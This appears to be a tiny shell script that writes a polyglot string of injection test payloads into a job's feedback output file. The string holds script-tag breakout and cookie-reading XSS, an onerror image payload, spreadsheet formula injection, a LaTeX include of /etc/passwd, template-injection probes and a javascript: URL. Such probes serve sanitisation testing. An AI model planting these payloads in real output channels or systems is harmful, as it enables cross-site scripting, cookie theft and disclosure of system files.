#!/bin/sh
cat >/job/out/feedback <<'END'
</script><script>alert(document.cookie)</script><img src=x onerror=alert(1)> =HYPERLINK(0) @SUM(1) \\input{/etc/passwd} ${7*7} {{7*7}} javascript:alert(1)
END
tr -d '\n' </job/out/feedback >/job/out/f && mv /job/out/f /job/out/feedback
